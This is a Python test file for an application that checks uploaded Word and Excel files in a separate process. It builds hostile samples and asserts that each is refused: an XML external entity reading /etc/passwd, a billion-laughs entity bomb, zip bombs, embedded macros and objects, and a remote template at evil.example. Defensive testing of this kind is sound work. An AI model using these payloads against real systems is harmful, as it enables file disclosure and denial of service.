"""Documents of others are read by a process apart, and hostile ones are refused with their reason."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from docx import Document
from fastapi.testclient import TestClient
from xlsxwriter import Workbook

from citybraid.core.errors import InputError
from citybraid.study.review.exchange import NEEDED
from citybraid.web.foreign import apart, packages
from citybraid.web.foreign.packages import look_through
from citybraid.web.results.templates import content

MAIN, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
FILE = "file:///etc/passwd"
LINKED = (
    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def shipped() -> bytes:
    return content(Path("/nonexistent"), "text")


def changed(source: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Return a package with parts changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def part(source: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(source)) as package:
        return package.read(name).decode("utf-8")


def with_declaration(source: bytes, name: str, declared: str, reference: str, encoding: str = "utf-8") -> bytes:
    head, _, body = part(source, name).partition("?>")
    text = f"{head}?>".replace("UTF-8", encoding.upper()) + declared + body.replace("<w:body>", f"<w:body>{reference}")
    return changed(source, {name: text.encode(encoding)})


def hostile_documents() -> dict[str, tuple[bytes, str]]:
    good = shipped()
    types = part(good, TYPES)
    macro = types.replace("wordprocessingml.document.main+xml", "macroEnabled.main+xml").replace(
        "vnd.openxmlformats-officedocument.macroEnabled", "vnd.ms-word.document.macroEnabled"
    )
    return {
        "bomb": (changed(good, {"word/media/a.png": bytes(packages.UNPACKED + 1)}), "web.foreign.bomb"),
        "parts": (changed(good, {f"x/{at}": b"" for at in range(packages.MOST_PARTS + 1)}), "web.foreign.bomb"),
        "external entity": (
            with_declaration(good, MAIN, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]>', "&x;"), "web.foreign.entities",
        ),
        "external entity in UTF-16": (
            with_declaration(good, MAIN, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]>', "&x;", "utf-16"),
            "web.foreign.entities",
        ),
        "billion laughs": (
            with_declaration(good, "word/styles.xml", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
            "web.foreign.entities",
        ),
        "macro": (changed(good, {"word/vbaProject.bin": b"x"}), "web.foreign.macros"),
        "docm": (changed(good, {TYPES: macro.encode()}), "web.foreign.macros"),
        "object": (changed(good, {"word/embeddings/oleObject1.bin": b"x"}), "web.foreign.macros"),
        "remote template": (
            changed(good, {RELS: part(good, RELS).replace("</Relationships>", LINKED).encode()}),
            "web.foreign.external",
        ),
        "no package": (b"PK\x03\x04 not a package", "web.foreign.no_package"),
        "cut": (good[: len(good) // 2], "web.foreign.no_package"),
    }  # fmt: skip


@pytest.mark.parametrize("name", hostile_documents())
def test_a_hostile_document_is_refused_before_anything_reads_it(name: str, tmp_path: Path) -> None:
    data, expected = hostile_documents()[name]
    path = tmp_path / "a.docx"
    path.write_bytes(data)
    with pytest.raises(InputError) as refused:
        look_through(path, "a.docx")
    assert refused.value.text == expected


def test_the_program_s_own_templates_hold_nothing_active(tmp_path: Path) -> None:
    for name in ("text", "memorandum", "statement", "report"):
        path = tmp_path / f"{name}.docx"
        path.write_bytes(content(tmp_path, name))
        look_through(path, path.name)


def test_a_process_apart_checks_templates(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(shipped())
    apart.check_template(path, needs=("parts",), styles=(), name="一.docx")
    Document().save(str(path))
    with pytest.raises(InputError) as refused:
        apart.check_template(path, needs=("parts",), styles=(), name="一.docx")
    assert (refused.value.text, refused.value.values["file"]) == ("annex.template_empty", "一.docx")
    path.write_bytes(hostile_documents()["external entity"][0])
    with pytest.raises(InputError, match="entit"):
        apart.check_template(path, needs=(), styles=(), name="a.docx")


def test_a_process_that_dies_or_takes_too_long_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(shipped())
    monkeypatch.setattr(apart, "SECONDS", 0.01)
    with pytest.raises(InputError) as refused:
        apart.check_template(path, needs=("parts",), styles=(), name="a.docx")
    assert refused.value.text == "web.foreign.slow"
    monkeypatch.setattr(apart, "SECONDS", 60.0)
    monkeypatch.setattr(apart, "MEMORY_MIB", 1.0)
    with pytest.raises(InputError) as refused:
        apart.check_template(path, needs=("parts",), styles=(), name="a.docx")
    assert refused.value.text == "web.foreign.crashed"


def table(path: Path) -> bytes:
    with Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        for at, name in enumerate(NEEDED):
            sheet.write_string(0, at, name)
            sheet.write_string(1, at, {"text": "太高了", "author": "李", "status": "open"}.get(name, ""))
    return path.read_bytes()


def test_a_process_apart_reads_tables_of_comments(tmp_path: Path) -> None:
    path = tmp_path / "comments.xlsx"
    good = table(path)
    rows = apart.comment_rows(path)
    assert [(number, row["text"], row["author"]) for number, row in rows] == [(2, "太高了", "李")]
    sheet = "xl/worksheets/sheet1.xml"
    declared = part(good, sheet).replace("?>", f'?><!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]>', 1)
    for evil, expected in (
        ({sheet: declared.encode()}, "web.foreign.entities"),
        ({"xl/vbaProject.bin": b"x"}, "web.foreign.macros"),
        ({"xl/media/a.png": bytes(packages.UNPACKED + 1)}, "web.foreign.bomb"),
    ):
        path.write_bytes(changed(good, evil))
        with pytest.raises(InputError) as refused:
            apart.comment_rows(path)
        assert refused.value.text == expected


def test_a_hostile_template_leaves_nothing_in_the_study(owner: TestClient, study: str, workspace: Path) -> None:
    before = set(workspace.rglob("*.docx"))
    for name in ("docm", "billion laughs"):
        data, expected = hostile_documents()[name]
        answer = owner.put(f"/api/studies/{study}/templates/text/files", files={"file": ("a.docm", data)})
        assert (answer.status_code, answer.json()["error"]) == (422, expected)
    assert set(workspace.rglob("*.docx")) == before
